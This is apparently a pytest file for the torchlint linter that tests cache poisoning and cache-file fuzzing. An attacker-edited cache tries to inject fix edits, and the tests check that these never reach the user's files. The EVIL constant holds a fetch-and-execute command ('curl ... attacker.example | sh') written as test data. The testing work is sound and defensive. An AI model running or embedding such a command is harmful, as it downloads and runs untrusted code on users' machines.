"""A cache the user did not write, or one that is damaged, changes no finding and writes no code.

* A poisoned repository: the attacker builds ``.torchlint_cache`` at the very path the victim's
  checkout will have, then edits it (findings removed, messages rewritten, each fix's edit
  replaced by ``os.system``). The victim's ``torchlint`` prints what ``--no-cache`` prints, and
  ``--fix`` writes what ``--no-cache --fix`` writes, for ``.py`` files and notebooks.
* A fuzz of the cache files (``fuzz_case``): truncation, byte damage, type mutation, deep
  nesting, foreign versions, swapped records, each unsealed or sealed again with this user's
  key (then only the schema checks stand between the damage and the findings). Every case must
  give the ``--no-cache`` result. ``benchmarks/fuzz.py --cache N`` runs thousands.
"""
import json
import os
import random
import shutil
import subprocess
import sys
import textwrap

import pytest

import cachefiles
from sample_projects import ENGINE as HELPERS
from test_cache import MAIN
from torchlint import integrity
from torchlint.cache import Cache
from torchlint.engine import LintOptions, run
from torchlint.selection import enabled_codes

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FIXTURES = os.path.join(ROOT, "fixtures")
# a small project: two training scripts with real bugs and a notebook (3 findings, 2 safe fixes,
# 1 unsafe), and a helper module its script imports (cross-module answers, exports in the cache)
REPO = {
    "cnn_eval.py": os.path.join(FIXTURES, "fixes", "cnn_eval_helper_and_per_class_report.py"),
    "mlp.py": os.path.join(FIXTURES, "fixes", "mlp_never_zero_grad.py"),
    "fashion_cnn.ipynb": os.path.join(FIXTURES, "notebooks", "fashion_cnn.ipynb"),
}
EVIL = "import os; os.system('curl -s https://attacker.example/x | sh')\n"
OLD = 1_600_000_000_000_000_000  # an old mtime: the stat index trusts it


def tl(*args, cwd, key):
    env = dict(os.environ, TORCHLINT_NO_DAEMON="1", **{integrity.ENV_KEY_FILE: key})
    return subprocess.run([sys.executable, "-m", "torchlint", "check", "--no-progress", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=300)


def _checkout(d):
    os.makedirs(d, exist_ok=True)
    for name, src in REPO.items():
        shutil.copy(src, os.path.join(d, name))
        os.utime(os.path.join(d, name), ns=(OLD, OLD))
    return d


def _records(cache_dir):
    return sorted(os.path.join(d, f) for d, _, fs in os.walk(cache_dir) for f in fs if f.endswith(".json"))


def _poison(cache_dir, key):
    """The attacker's edits, sealed with the attacker's key: the findings of ``mlp.py`` dropped,
    every other message rewritten, every fix made safe and its edits replaced."""
    k = integrity.load_key_file(key)
    edited = 0
    for f in _records(cache_dir):
        name = cachefiles.name_of(f)
        d = json.loads(bytes(integrity.unseal(k, name, open(f, "rb").read())))
        if not isinstance(d, dict):
            continue
        for r in cachefiles.results_in(d):
            if r["path"].strip("\x1d").endswith("mlp.py"):  # (a path token: findings.path_token)
                del r["findings"][:]
            for x in r["findings"]:
                x["message"] = "looks fine"
                if x["fix"]:
                    x["fix"]["applicability"] = "safe"
                    for e in x["fix"]["edits"]:
                        e["content"] = EVIL
                        e["location"] = {"row": 1, "column": 1}
                        e["end_location"] = {"row": 1, "column": 1}
                edited += 1
        open(f, "wb").write(integrity.seal(k, name, json.dumps(d).encode()))
    assert edited


@pytest.fixture
def poisoned(tmp_path):
    """(checkout with the attacker's cache, the victim's key, the attacker's key)."""
    repo = _checkout(str(tmp_path / "ci" / "checkout"))
    attacker, victim = str(tmp_path / "attacker.key"), str(tmp_path / "victim.key")
    built = tl(".", "--unsafe-fixes", cwd=repo, key=attacker)
    assert built.returncode == 1 and os.path.isdir(os.path.join(repo, ".torchlint_cache"))
    _poison(os.path.join(repo, ".torchlint_cache"), attacker)
    return repo, victim, attacker


def test_a_committed_poisoned_cache_changes_no_finding(poisoned):
    repo, victim, attacker = poisoned
    expected = tl(".", "--no-cache", cwd=repo, key=victim)
    n = expected.stdout.count(": TL")
    assert expected.returncode == 1 and n >= 3 and "mlp.py" in expected.stdout
    # the poison is live: whoever holds the attacker's key is served the doctored findings
    theirs = tl(".", cwd=repo, key=attacker)
    assert "looks fine" in theirs.stdout and theirs.stdout.count(": TL") < n and "mlp.py" not in theirs.stdout
    for fmt in ("text", "json"):
        got = tl(".", "--output-format", fmt, cwd=repo, key=victim)
        assert (got.stdout, got.returncode) == (tl(".", "--no-cache", "--output-format", fmt, cwd=repo,
                                                   key=victim).stdout, 1)
        assert "looks fine" not in got.stdout and "attacker" not in got.stdout


@pytest.mark.parametrize("whose,unsafe", [("victim", True), ("attacker", False)])
def test_fix_never_applies_an_edit_from_the_cache(poisoned, tmp_path, whose, unsafe):
    """``--fix`` writes what ``--no-cache --fix`` writes, even when the doctored records carry a
    valid seal (``attacker``: as if the key had leaked): its edits come from a fresh lint."""
    repo, victim, attacker = poisoned
    clean = _checkout(str(tmp_path / "clean"))
    flags = ["--fix"] + (["--unsafe-fixes"] if unsafe else [])
    want = tl(".", "--no-cache", *flags, cwd=clean, key=victim)
    got = tl(".", *flags, cwd=repo, key=victim if whose == "victim" else attacker)
    assert "Traceback" not in got.stderr and got.stderr == want.stderr  # "Fixed N errors."
    if whose == "victim":  # (with the attacker's key, the report after the fixes is theirs)
        assert (got.stdout, got.returncode) == (want.stdout, want.returncode)
    changed = set()
    for name in REPO:
        with open(os.path.join(repo, name), "rb") as a, open(os.path.join(clean, name), "rb") as b:
            mine, theirs = a.read(), b.read()
        assert mine == theirs, name
        assert b"attacker" not in mine
        with open(REPO[name], "rb") as orig:
            if mine != orig.read():
                changed.add(name)
    # the fixes did happen, in a module and in the notebook (and the unsafe one with --unsafe-fixes)
    assert {"cnn_eval.py", "fashion_cnn.ipynb"} <= changed and ("mlp.py" in changed) == unsafe


# ------------------------------------------------------------------ fuzz
OPTS = LintOptions(frozenset(enabled_codes(["TL"], [], [])))
_OTHER_TYPES = [None, True, 0, -7, 2 ** 70, 1.5, "x", [], {}, ["x", 1], {"x": {"y": [None]}}]
_EDIT = "\n\ndef unused_helper():\n    return 1\n"
METRICS = """
    def accuracy(correct, total):
        return correct / max(total, 1)
"""


def _as_dicts(results):
    return [(r.path, [f.to_dict() for f in r.findings], r.error, r.internal_error) for r in results]


class FuzzTree:
    """One built cache for a small project; each case lints against a damaged copy of it."""

    def __init__(self, base):
        self.repo = _checkout(os.path.join(base, "repo"))
        for name, text in (("helpers.py", HELPERS.format(train_line="pass")), ("main.py", MAIN),
                           ("metrics.py", METRICS)):
            with open(os.path.join(self.repo, name), "w") as fh:
                fh.write(textwrap.dedent(text).lstrip("\n"))
            os.utime(os.path.join(self.repo, name), ns=(OLD, OLD))
        self.files = sorted(os.path.join(self.repo, n) for n in os.listdir(self.repo))
        self.cache = os.path.join(base, "built")
        self.work = os.path.join(base, "work")
        self.expected = {False: _as_dicts(run(self.files, OPTS)), True: None}
        run(self.files, OPTS, cache=Cache(self.cache))
        assert _as_dicts(run(self.files, OPTS, cache=Cache(self.cache))) == self.expected[False]
        with self.edited():
            self.expected[True] = _as_dicts(run(self.files, OPTS))
        self.targets = sorted(os.path.relpath(os.path.join(d, f), self.cache)
                              for d, _, fs in os.walk(self.cache) for f in fs
                              if f.endswith((".json", ".bin")))

    def edited(self):
        """The tree with one file changed: the run reads the entries and the last run's index
        (the unchanged tree is answered from the run snapshot)."""
        tree = self

        class _Ctx:
            def __enter__(self):
                p = os.path.join(tree.repo, "metrics.py")
                self.orig = open(p).read()
                open(p, "w").write(self.orig + _EDIT)
                os.utime(p, ns=(OLD + 10 ** 9, OLD + 10 ** 9))

            def __exit__(self, *exc):
                p = os.path.join(tree.repo, "metrics.py")
                open(p, "w").write(self.orig)
                os.utime(p, ns=(OLD, OLD))

        return _Ctx()

    def case(self, rng: random.Random, edited: bool) -> str:
        """Damage one cache file of a fresh copy, lint, compare with the no-cache result;
        returns what was done (for the failure message)."""
        shutil.rmtree(self.work, ignore_errors=True)
        shutil.copytree(self.cache, self.work)
        target = rng.choice(self.targets)
        what = damage(os.path.join(self.work, target), rng,
                      [os.path.join(self.work, t) for t in self.targets if t != target])
        got = _as_dicts(run(self.files, OPTS, cache=Cache(self.work)))
        assert got == self.expected[edited], f"{target}: {what}"
        return f"{target}: {what}"


def _nodes(x, path=()):
    yield path
    if isinstance(x, dict):
        for k, v in x.items():
            yield from _nodes(v, path + (k,))
    elif isinstance(x, list):
        for i, v in enumerate(x):
            yield from _nodes(v, path + (i,))


def _get(x, path):
    for p in path:
        x = x[p]
    return x


def _set(x, path, v):
    if not path:
        return v
    _get(x, path[:-1])[path[-1]] = v
    return x


def damage(f: str, rng: random.Random, others: list) -> str:
    """Damage the cache file ``f`` one way; returns how."""
    data = open(f, "rb").read()
    blob = f.endswith(".bin")
    kinds = ["truncate", "flip", "garbage", "swap"] + ([] if blob else [
        "sealed-truncate", "sealed-type", "sealed-type", "sealed-type", "sealed-deep", "sealed-version",
        "sealed-garbage"])
    kind = rng.choice(kinds)
    if kind == "truncate":
        out = data[:rng.randrange(len(data))]
    elif kind == "flip":
        i = rng.randrange(len(data))
        out = data[:i] + bytes([data[i] ^ (1 << rng.randrange(8))]) + data[i + 1:]
    elif kind == "garbage":
        out = rng.choice([b"", b"\x00" * 64, b"[" * 100_000, b'{"version": "0.1.0"}', os.urandom(256)])
    elif kind == "swap":  # another cache file's bytes under this name (its seal names the other)
        other = rng.choice(others)
        out = open(other, "rb").read()
        kind += " with " + os.path.basename(other)
    else:
        payload = cachefiles.payload(f)
        if kind == "sealed-truncate":
            new = payload[:rng.randrange(len(payload))]
        elif kind == "sealed-garbage":
            new = rng.choice([b"", b"null", b"[]", b"[" * 100_000 + b"]" * 100_000, b'{"version": 1}'])
        else:
            d = json.loads(payload)
            if kind == "sealed-version":
                d["version"] = rng.choice(["0.0.1", "99.0", None, 1])
            else:
                path = rng.choice(list(_nodes(d)))
                old = _get(d, path)
                if kind == "sealed-deep":
                    v = []
                    for _ in range(rng.choice([20, 5_000, 200_000])):
                        v = [v]
                else:  # a value of another type (a finding without a fix, ``null``, is as legal
                    # as one with a fix: only the seal tells them apart, so not a damage the
                    # schema can see)
                    v = rng.choice([t for t in _OTHER_TYPES if type(t) is not type(old)
                                    and not (t is None and path[-1:] == ("fix",))])
                d = _set(d, path, v)
                kind += f" at {'/'.join(map(str, path))[:80]}"
            try:
                new = json.dumps(d).encode()
            except RecursionError:  # too deep for the encoder: write it by hand
                n = 200_000
                new = json.dumps(_set(d, path, "@@")).encode().replace(b'"@@"', b"[" * n + b"]" * n)
        out = integrity.seal(integrity.load_key(), cachefiles.name_of(f), new)
    open(f, "wb").write(out)
    return kind


@pytest.fixture(scope="module")
def fuzz_tree(tmp_path_factory):
    return FuzzTree(str(tmp_path_factory.mktemp("fuzz")))


FUZZ_CASES = int(os.environ.get("TORCHLINT_CACHE_FUZZ_CASES", "150"))


@pytest.mark.parametrize("edited", [False, True])
def test_damaged_cache_files_never_change_a_result(fuzz_tree, edited):
    rng = random.Random(f"cache-fuzz-{edited}-{os.environ.get('TORCHLINT_CACHE_FUZZ_SEED', 0)}")
    done = []
    if edited:
        with fuzz_tree.edited():
            for _ in range(FUZZ_CASES):
                done.append(fuzz_tree.case(rng, True))
    else:
        for _ in range(FUZZ_CASES):
            done.append(fuzz_tree.case(rng, False))
    kinds = {d.split(": ", 1)[1].split(" ")[0] for d in done}
    assert {"truncate", "flip", "swap", "sealed-type", "sealed-deep", "sealed-version"} <= kinds


def test_damaged_cache_through_the_command_line(tmp_path):
    """A few damaged caches through ``torchlint check``: the exit code and output of
    ``--no-cache``, no traceback."""
    repo = _checkout(str(tmp_path / "repo"))
    key = integrity.key_file()
    want = tl(".", "--no-cache", cwd=repo, key=key)
    tl(".", cwd=repo, key=key)
    cache = os.path.join(repo, ".torchlint_cache")
    rng = random.Random(7)
    files = sorted(os.path.join(d, f) for d, _, fs in os.walk(cache) for f in fs if f.endswith((".json", ".bin")))
    for f in rng.sample(files, min(3, len(files))):
        damage(f, rng, [g for g in files if g != f])
        got = tl(".", cwd=repo, key=key)
        assert (got.stdout, got.returncode) == (want.stdout, want.returncode)
        assert "Traceback" not in got.stderr and "internal error" not in got.stderr


# ------------------------------------------------------------------ notebooks: verify and undo
@pytest.mark.parametrize("bad", ["breaks-parse", "keeps-finding"])
def test_a_notebook_fix_that_breaks_the_program_or_keeps_its_finding_is_undone(tmp_path, bad):
    """The passes a module's fixes go through, for a notebook's cells: an edit whose program
    does not parse, or after which its finding is still there, is undone; the real fix of the
    next lint is applied."""
    from dataclasses import replace

    from torchlint import notebook
    from torchlint.findings import Edit, Position
    from torchlint.fixer import _Cells, _fix_passes

    path = _checkout(str(tmp_path))
    nb_path = os.path.join(path, "fashion_cnn.ipynb")
    nb = notebook.load(nb_path)
    doc = _Cells(nb_path, nb, OPTS, None, "fashion_cnn.ipynb")
    cells = notebook.sources(nb)
    (real,) = [f for f in doc.lint(cells) if f.fix is not None and f.fix.applicability == "safe"]
    e = real.fix.edits[0]
    content = "with torch.no_grad(:\n" if bad == "breaks-parse" else "# evaluation\n"
    broken = replace(real, fix=replace(real.fix, edits=(Edit(e.start, Position(e.start.line, e.start.column),
                                                             content),)))
    ff = _fix_passes(doc, cells, False, "fashion_cnn.ipynb", first=[broken])
    assert [a.code for a in ff.discarded] == ["TL203"]
    assert ff.fixed == cells  # undone; the findings it was given are not linted again in this pass
    ff = _fix_passes(doc, cells, False, "fashion_cnn.ipynb")
    assert ff.discarded == [] and [a.code for a in ff.applied] == ["TL203"]
    assert "with torch.no_grad():\n" in ff.fixed[real.fix.cell - 1]
